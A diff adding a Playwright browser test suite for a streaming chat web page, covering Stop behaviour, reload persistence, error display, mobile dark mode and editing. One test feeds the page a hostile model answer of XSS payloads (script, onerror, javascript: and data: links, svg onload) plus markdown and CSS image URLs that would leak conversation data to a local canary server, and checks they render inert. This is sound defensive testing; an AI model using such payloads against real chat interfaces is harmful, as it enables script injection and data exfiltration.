@@ -1,0 +1,280 @@
+"""The chat page in headless Chromium: progressive rendering, Stop that always stops, nothing lost, nothing unsafe."""
+
+import http.server
+import random
+import statistics
+import threading
+import time
+
+import pytest
+
+from tests.browser import open_page
+from tests.fake_upstream import Scenario
+
+pytestmark = [pytest.mark.live, pytest.mark.browser]
+
+ASSISTANT = "[data-role=assistant]"
+
+
+def last_assistant(page):
+    return page.locator(ASSISTANT).last
+
+
+def send(page, text: str):
+    page.get_by_label("Message").fill(text)
+    page.get_by_role("button", name="Send").click()
+
+
+def wait_text_longer(page, length: int):
+    page.wait_for_function(
+        "length => { const all = document.querySelectorAll('[data-role=assistant] .content');"
+        " return all.length && all[all.length - 1].textContent.length > length; }", arg=length)
+
+
+def wait_status(page, status: str, timeout: float = 10):
+    page.wait_for_function(
+        "status => { const all = document.querySelectorAll('[data-role=assistant]');"
+        " return all.length && all[all.length - 1].dataset.status === status; }", arg=status,
+        timeout=timeout * 1000)
+
+
+def test_tokens_appear_as_they_arrive(jarvis, upstream, context):
+    upstream.scenario = Scenario(tokens=40, interval=0.05)
+    page, problems = open_page(context, jarvis.url)
+    send(page, "stream please")
+    page.wait_for_selector(f"{ASSISTANT}[data-status=streaming]")
+    lengths = []
+    while last_assistant(page).get_attribute("data-status") == "streaming":
+        lengths.append(len(last_assistant(page).locator(".content").inner_text()))
+        page.wait_for_timeout(30)  # sampling interval, not a wait for an event
+    wait_status(page, "complete")
+    growth_steps = len({length for length in lengths if length})
+    assert growth_steps >= 10, lengths
+    assert last_assistant(page).locator(".content").inner_text().strip() == " ".join(f"w{i}" for i in range(40))
+    problems.assert_clean()
+
+
+@pytest.mark.timeout(240)
+def test_send_then_stop_twenty_times(jarvis, upstream, context):
+    upstream.scenario = Scenario(tokens=400, interval=0.02)
+    page, problems = open_page(context, jarvis.url)
+    rng = random.Random(4)
+    stop_to_cancel = []
+    for run in range(20):
+        send(page, f"prompt {run}")
+        page.wait_for_selector(f"{ASSISTANT}[data-status=streaming] >> nth=-1")
+        wait_tokens = rng.choice([0, 0, 1, 3, 8, 15])
+        if wait_tokens:
+            wait_text_longer(page, 3 * wait_tokens)
+        exchange = upstream.wait_for_exchange(run + 1)
+        clicked = time.monotonic()
+        page.get_by_role("button", name="Stop").click()
+        wait_status(page, "stopped")
+        upstream.wait_until_ended(exchange, timeout=5)
+        assert exchange.closed_at is not None, f"run {run}: the upstream was not cancelled"
+        stop_to_cancel.append(exchange.closed_at - clicked)
+        if wait_tokens:
+            assert last_assistant(page).locator(".content").inner_text().strip(), f"run {run} lost its text"
+        page.wait_for_selector("#send:not([disabled])")
+    server_side = [float(line.split("cancel_ms=")[1]) for line in jarvis.end_lines() if "cancel_ms=" in line]
+    print(f"Stop click (Playwright click included) -> upstream closed: p50 "
+          f"{statistics.median(stop_to_cancel) * 1000:.1f} ms, max {max(stop_to_cancel) * 1000:.1f} ms; "
+          f"server: client gone -> upstream closed p50 {statistics.median(server_side):.1f} ms, "
+          f"max {max(server_side):.1f} ms over {len(server_side)} stops")
+    assert page.locator(f"{ASSISTANT}[data-status=stopped]").count() == 20
+    upstream.scenario = Scenario(tokens=5)
+    send(page, "and now a whole answer")
+    wait_status(page, "complete")  # no connection-cap hang after twenty stops
+    assert last_assistant(page).locator(".content").inner_text().strip() == "w0 w1 w2 w3 w4"
+    problems.assert_clean()
+
+
+def test_reload_after_stop_keeps_the_partial_answer(jarvis, upstream, context):
+    upstream.scenario = Scenario(tokens=400, interval=0.02)
+    page, problems = open_page(context, jarvis.url)
+    send(page, "tell me")
+    wait_text_longer(page, 20)
+    page.get_by_role("button", name="Stop").click()
+    wait_status(page, "stopped")
+    shown = last_assistant(page).locator(".content").inner_text()
+    upstream.wait_until_ended(upstream.chats[0])
+    jarvis.wait_for_log("outcome=client_stop")
+    page.reload()
+    page.wait_for_selector("body[data-ready=true]")
+    wait_status(page, "stopped")
+    assert last_assistant(page).locator(".content").inner_text().startswith(shown.strip())
+    assert page.locator("[data-role=user]").inner_text().startswith("tell me")
+    problems.assert_clean()
+
+
+def test_closing_the_tab_mid_stream_then_reopening_shows_the_partial_answer(jarvis, upstream, context):
+    upstream.scenario = Scenario(tokens=400, interval=0.02)
+    page, _ = open_page(context, jarvis.url)
+    send(page, "long answer please")
+    wait_text_longer(page, 20)
+    shown = last_assistant(page).locator(".content").inner_text()
+    page.close()
+    exchange = upstream.wait_until_ended(upstream.chats[0])
+    assert exchange.closed_at is not None
+    jarvis.wait_for_log("outcome=client_stop")
+    reopened, problems = open_page(context, jarvis.url)
+    wait_status(reopened, "stopped")
+    assert last_assistant(reopened).locator(".content").inner_text().startswith(shown.strip())
+    problems.assert_clean()
+
+
+def test_upstream_error_mid_stream_is_shown_inline_and_the_page_stays_usable(jarvis, upstream, context):
+    upstream.scenario = Scenario(tokens=10, error_event_after=3)
+    page, problems = open_page(context, jarvis.url)
+    send(page, "break please")
+    wait_status(page, "error")
+    note = last_assistant(page).locator(".error").inner_text()
+    assert "the model crashed" in note and "trace" in note
+    assert last_assistant(page).locator(".content").inner_text().strip() == "w0 w1 w2"
+    upstream.scenario = Scenario(tokens=2)
+    send(page, "again")
+    wait_status(page, "complete")
+    problems.assert_clean()
+
+
+def test_upstream_stall_ends_with_an_inline_error(start_jarvis, upstream, context):
+    jarvis = start_jarvis({"JARVIS_STREAM_INACTIVITY_SECONDS": "1", "JARVIS_HEARTBEAT_SECONDS": "0.3"})
+    upstream.scenario = Scenario(tokens=10, stall_after=2)
+    page, problems = open_page(context, jarvis.url)
+    send(page, "stall please")
+    wait_status(page, "error")
+    assert "JARVIS_STREAM_INACTIVITY_SECONDS" in last_assistant(page).locator(".error").inner_text()
+    upstream.scenario = Scenario(tokens=2)
+    send(page, "again")
+    wait_status(page, "complete")
+    problems.assert_clean()
+
+
+class _Canary(http.server.BaseHTTPRequestHandler):
+    requests: list[str] = []
+
+    def do_GET(self):  # noqa: N802 (http.server's naming)
+        _Canary.requests.append(self.path)
+        self.send_response(200)
+        self.send_header("Content-Type", "image/png")
+        self.end_headers()
+
+    def log_message(self, *args):
+        pass
+
+
+@pytest.fixture
+def canary():
+    _Canary.requests = []
+    server = http.server.ThreadingHTTPServer(("127.0.0.1", 0), _Canary)
+    threading.Thread(target=server.serve_forever, daemon=True).start()
+    yield f"http://127.0.0.1:{server.server_address[1]}"
+    server.shutdown()
+    server.server_close()
+
+
+def test_hostile_answer_renders_inert(jarvis, upstream, context, canary):
+    hostile = "\n\n".join([
+        "<script>window.__pwned = 'script'</script>",
+        "<img src=x onerror=\"window.__pwned = 'img'\">",
+        "[click me](javascript:window.__pwned='link')",
+        "[sneaky](JaVaScRiPt&#58;window.__pwned='entity')",
+        f"![exfiltrate]({canary}/leak.png?conversation=secret)",
+        f"<img src=\"{canary}/html-img.png\" srcset=\"{canary}/srcset.png 2x\">",
+        f"<div style=\"background:url({canary}/css.png)\">styled</div>",
+        "<svg onload=\"window.__pwned='svg'\"><circle r=5></circle></svg>",
+        "<iframe src=\"javascript:parent.__pwned='iframe'\"></iframe>",
+        "[data](data:text/html,<script>alert(1)</script>)",
+    ])
+    upstream.scenario = Scenario(content=hostile)
+    page, problems = open_page(context, jarvis.url)
+    requested = []
+    page.on("request", lambda request: requested.append(request.url))
+    send(page, "be hostile")
+    wait_status(page, "complete")
+    answer = last_assistant(page)
+    for link in answer.locator("a").all():
+        href = link.get_attribute("href")
+        assert href is None or href.startswith(("http:", "https:", "mailto:")), href
+        if href is not None:
+            assert link.get_attribute("rel") == "noopener noreferrer"
+    assert answer.locator("img, script, iframe, svg, [style]").count() == 0
+    for link in answer.locator("a:not([href])").all():
+        link.click()  # a javascript: link that lost its href does nothing
+    page.reload()
+    page.wait_for_selector("body[data-ready=true]")
+    wait_status(page, "complete")
+    assert page.evaluate("window.__pwned") is None
+    assert _Canary.requests == []
+    assert not [url for url in requested if not url.startswith(jarvis.url)]
+    placeholder = page.locator(".image-placeholder").first
+    assert "click to open" in placeholder.inner_text()
+    problems.assert_clean()
+
+
+def test_page_is_usable_on_a_phone_in_dark_mode(jarvis, upstream, browser):
+    phone = browser.new_context(viewport={"width": 390, "height": 760}, color_scheme="dark")
+    try:
+        page, problems = open_page(phone, jarvis.url)
+        send(page, "hello from a phone")
+        wait_status(page, "complete")
+        assert page.locator("#send").bounding_box()["x"] + page.locator("#send").bounding_box()["width"] <= 390
+        background = page.evaluate("getComputedStyle(document.body).backgroundColor")
+        assert background == "rgb(22, 22, 26)"
+        assert not page.locator("#sidebar").is_visible() or \
+            page.locator("#sidebar").bounding_box()["x"] < 0
+        page.get_by_role("button", name="Show conversations").click()
+        page.wait_for_function("() => document.querySelector('#sidebar').getBoundingClientRect().x >= 0")
+        assert page.locator("nav[aria-label=Conversations] li").count() == 1
+        problems.assert_clean()
+    finally:
+        phone.close()
+
+
+def test_keyboard_enter_sends_shift_enter_adds_a_line_escape_stops(jarvis, upstream, context):
+    upstream.scenario = Scenario(tokens=400, interval=0.02)
+    page, problems = open_page(context, jarvis.url)
+    box = page.get_by_label("Message")
+    box.fill("line one")
+    box.press("Shift+Enter")
+    box.type("line two")
+    assert box.input_value() == "line one\nline two"
+    box.press("Enter")
+    page.wait_for_selector(f"{ASSISTANT}[data-status=streaming]")
+    assert page.locator("[data-role=user]").inner_text().startswith("line one\nline two")
+    assert page.get_by_role("button", name="Stop").is_enabled()
+    page.keyboard.press("Escape")
+    wait_status(page, "stopped")
+    assert not page.get_by_role("button", name="Stop").is_enabled()
+    problems.assert_clean()
+
+
+def test_regenerate_and_edit(jarvis, upstream, context):
+    upstream.scenario = Scenario(tokens=3)
+    page, problems = open_page(context, jarvis.url)
+    send(page, "first question")
+    wait_status(page, "complete")
+    upstream.scenario = Scenario(tokens=2)
+    page.get_by_role("button", name="Regenerate").click()
+    page.wait_for_function(f"() => document.querySelector('{ASSISTANT} .content').textContent.trim() === 'w0 w1'")
+    wait_status(page, "complete")
+    assert page.locator(ASSISTANT).count() == 1
+    page.get_by_role("button", name="Edit").click()
+    box = page.get_by_label("Message")
+    assert box.input_value() == "first question"
+    box.fill("edited question")
+    page.get_by_role("button", name="Send").click()
+    page.wait_for_function("() => document.querySelectorAll('[data-role=user]').length === 1 && "
+                           "document.querySelector('[data-role=user] .content').textContent === 'edited question'")
+    wait_status(page, "complete")
+    assert [m["content"] for m in upstream.chats[-1].body["messages"]] == ["edited question"]
+    problems.assert_clean()
+
+
+def test_model_picker_lists_the_backend_models(jarvis, upstream, context):
+    page, problems = open_page(context, jarvis.url)
+    assert page.locator("#model option").all_inner_texts() == ["fake-model"]
+    send(page, "hi")
+    wait_status(page, "complete")
+    assert upstream.chats[0].body["model"] == "fake-model"
+    problems.assert_clean()
